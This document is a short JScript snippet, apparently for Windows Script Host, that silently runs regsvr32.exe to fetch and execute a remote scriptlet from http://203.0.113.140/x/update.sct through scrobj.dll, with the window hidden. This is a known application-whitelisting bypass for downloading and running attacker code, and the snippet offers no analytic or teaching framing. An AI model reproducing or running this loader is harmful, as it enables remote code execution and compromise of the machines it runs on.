var w = new ActiveXObject("WScript.Shell");
var sct = "http://203.0.113.140/x/update.sct";
w.Run("regsvr32.exe /s /n /u /i:" + sct + " scrobj.dll", 0, false);
